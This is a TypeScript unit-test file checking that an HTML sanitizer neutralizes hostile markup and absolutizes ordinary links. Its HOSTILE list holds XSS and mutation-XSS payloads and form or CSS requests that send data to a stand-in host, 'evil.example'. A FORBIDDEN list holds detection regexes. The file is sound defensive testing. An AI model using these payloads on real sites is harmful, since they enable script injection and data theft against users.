import { describe, expect, it } from 'vitest';
import { createSanitizer } from '../../../lib/sanitize/index';
import { blankWindow, parseHtml } from '../../helpers/dom';

const base = 'https://news.example.com/articles/page.html';
const sanitizer = createSanitizer(blankWindow());
const clean = (html: string) => sanitizer.sanitizeHtml(html, base);

/** Hostile inputs, each with a fragment of safe text that must survive so the test shows content is kept. */
const HOSTILE: Array<[string, string]> = [
  ['<p>ok</p><script>alert(1)</script>', 'ok'],
  ['<p>ok</p><img src="x.png" onerror="alert(1)">', 'ok'],
  ['<a href="javascript:alert(1)">ok</a>', 'ok'],
  ['<a href="JaVaScRiPt:alert(1)">ok</a>', 'ok'],
  ['<a href="jav&#x09;ascript:alert(1)">ok</a>', 'ok'],
  ['<a href="jav&#x0A;ascript:alert(1)">ok</a>', 'ok'],
  ['<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ok</a>', 'ok'],
  ['<a href=" javascript:alert(1)">ok</a>', 'ok'],
  ['<a href="vbscript:msgbox(1)">ok</a>', 'ok'],
  ['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ok</a>', 'ok'],
  ['<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+"><p>ok</p>', 'ok'],
  ['<svg><script>alert(1)</script></svg><p>ok</p>', 'ok'],
  ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><p>ok</p>', 'ok'],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>ok</p>', 'ok'],
  ['<math><mi xlink:href="javascript:alert(1)">x</mi></math><p>ok</p>', 'ok'],
  ['<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>"></style></mtext></svg></mglyph></form></mtext></math><p>ok</p>', 'ok'],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>ok</p>', 'ok'],
  ['<style>@import url(https://evil.example/x.css);</style><p>ok</p>', 'ok'],
  ['<p style="background:url(https://evil.example/leak?x)">ok</p>', 'ok'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example"><p>ok</p>', 'ok'],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe><p>ok</p>', 'ok'],
  ['<iframe src="https://evil.example"></iframe><p>ok</p>', 'ok'],
  ['<form action="https://evil.example/steal"><input name="password" value="x"><button formaction="https://evil.example">go</button></form><p>ok</p>', 'ok'],
  ['<base href="https://evil.example/"><a href="/x">ok</a>', 'ok'],
  ['<link rel="stylesheet" href="https://evil.example/x.css"><p>ok</p>', 'ok'],
  ['<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><p>ok</p>', 'ok'],
  ['<div onclick="alert(1)" onmouseover="alert(2)">ok</div>', 'ok'],
  ['<body onload="alert(1)"><p>ok</p></body>', 'ok'],
  ['<details open ontoggle="alert(1)"><summary>ok</summary></details>', 'ok'],
  ['<video poster="javascript:alert(1)" src="javascript:alert(2)"></video><p>ok</p>', 'ok'],
  ['<img srcset="javascript:alert(1) 1x, https://cdn.example/a.png 2x"><p>ok</p>', 'ok'],
  ['<template><img src=x onerror=alert(1)></template><p>ok</p>', 'ok'],
  ['<p>ok</p><!-- <img src=x onerror=alert(1)> -->', 'ok'],
  ['<a href="#" data-bind="alert(1)" id="location">ok</a>', 'ok'],
  ['<img src="https://cdn.example/a.png" ping="https://evil.example"><p>ok</p>', 'ok'],
];

/** Things that must not appear anywhere in sanitized output. */
const FORBIDDEN = [
  /<script/i, /<style/i, /<svg/i, /<math/i, /<iframe/i, /<form/i, /<input/i, /<button/i, /<base/i, /<meta/i, /<link/i,
  /<object/i, /<embed/i, /<template/i, /<noscript/i, /\son[a-z]+\s*=/i, /javascript:/i, /vbscript:/i, /data:text/i,
  /data:image\/svg/i, /style=/i, /srcdoc/i, /formaction/i, /action=/i, /evil\.example/i, /url\(/i, /data-bind/i, /<!--/,
];

describe('sanitizeHtml against hostile HTML', () => {
  it.each(HOSTILE)('neutralizes %s', (input, keep) => {
    const out = clean(input);
    for (const pattern of FORBIDDEN) expect(out, `${pattern} in ${out}`).not.toMatch(pattern);
    expect(out).toContain(keep);
    // Stable under re-parsing: sanitizing the output again changes nothing (no mutation-XSS drift).
    expect(clean(out)).toBe(out);
  });

  it('sanitizes a detached node in place, removing every hostile construct', () => {
    const { document } = parseHtml(`<div id="c">${HOSTILE.map(([h]) => h).join('')}</div>`);
    const root = document.getElementById('c')!;
    root.remove();
    sanitizer.sanitizeInPlace(root, base);
    for (const pattern of FORBIDDEN) expect(root.innerHTML).not.toMatch(pattern);
    expect(root.textContent).toContain('ok');
  });

  it('does not mutate a node passed to sanitizeHtml', () => {
    const { document } = parseHtml('<div id="c"><p onclick="x()">hi</p><script>1</script></div>');
    const before = document.getElementById('c')!.outerHTML;
    const out = sanitizer.sanitizeHtml(document.getElementById('c')!, base);
    expect(out).not.toMatch(/onclick|script/);
    expect(document.getElementById('c')!.outerHTML).toBe(before);
  });
});

describe('sanitizeHtml keeps and fixes ordinary content', () => {
  it('makes links and images absolute and opens links safely', () => {
    const out = clean('<a href="../other.html">a</a><a href="/root">b</a><img src="img/p.png" alt="p"><a href="mailto:x@example.com">m</a>');
    const { document } = parseHtml(out);
    const links = Array.from(document.querySelectorAll('a'));
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://news.example.com/other.html', 'https://news.example.com/root', 'mailto:x@example.com']);
    for (const a of links) {
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
      expect(a.getAttribute('target')).toBe('_blank');
    }
    expect(document.querySelector('img')!.getAttribute('src')).toBe('https://news.example.com/articles/img/p.png');
  });

  it('absolutizes srcset candidates and drops unsafe ones', () => {
    const out = clean('<img src="a.png" srcset="a-1x.png 1x, /b-2x.png 2x, javascript:alert(1) 3x">');
    const img = parseHtml(out).document.querySelector('img')!;
    expect(img.getAttribute('srcset')).toBe('https://news.example.com/articles/a-1x.png 1x, https://news.example.com/b-2x.png 2x');
  });

  it('keeps raster data: images but not other data: URLs', () => {
    const png = 'data:image/png;base64,iVBORw0KGgo=';
    expect(clean(`<img src="${png}">`)).toContain(png);
    expect(clean('<img src="data:image/svg+xml,<svg onload=alert(1)>">')).not.toContain('data:');
    expect(clean('<a href="data:image/png;base64,iVBORw0KGgo=">x</a>')).not.toContain('data:');
  });

  it('keeps structure, tables, code language classes and drops other classes', () => {
    const out = clean(
      '<h2 class="title big">T</h2><table><tr><th>a</th></tr><tr><td>1</td></tr></table><pre class="x language-ts"><code class="language-ts hl">let a = 1;</code></pre>',
    );
    expect(out).toContain('<h2>T</h2>');
    expect(out).toContain('<table>');
    expect(out).toContain('<pre class="language-ts"><code class="language-ts">let a = 1;</code></pre>');
  });
});
